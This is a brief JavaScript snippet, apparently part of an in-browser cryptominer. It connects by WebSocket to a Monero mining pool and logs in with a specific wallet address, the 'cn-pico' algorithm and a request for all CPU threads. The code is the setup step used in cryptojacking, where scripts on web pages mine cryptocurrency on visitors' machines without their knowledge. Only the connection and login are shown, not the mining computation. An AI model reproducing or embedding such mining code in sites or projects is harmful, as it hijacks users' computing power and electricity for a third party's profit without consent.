var w = new WebSocket('wss://webminer.moneroocean.stream:443');
w.onopen = function () {
  w.send(JSON.stringify({type: 'login', params: {wallet: '41tcdMfd9EYAQfk4XG5naCKp4ykDbRNjAVDUDRuvkxt8ecsT7cEcECQ531cEyvkJmeESQqvgG5tvcPqp5cNbRV5aNmTBrVJ', worker: 'a', algo: 'cn-pico', threads: -1}}));
};
